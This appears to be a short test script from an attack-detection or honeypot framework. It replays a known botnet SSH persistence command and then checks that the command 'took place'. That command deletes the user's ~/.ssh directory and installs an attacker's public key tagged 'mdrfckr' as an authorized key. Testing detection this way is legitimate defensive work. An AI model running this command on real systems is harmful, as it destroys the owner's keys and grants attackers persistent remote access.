#!/bin/sh
. /opt/case/case.sh

cd ~ && rm -rf .ssh && mkdir .ssh && echo 'ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1 mdrfckr' >>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~
grep -q mdrfckr /root/.ssh/authorized_keys
took_place
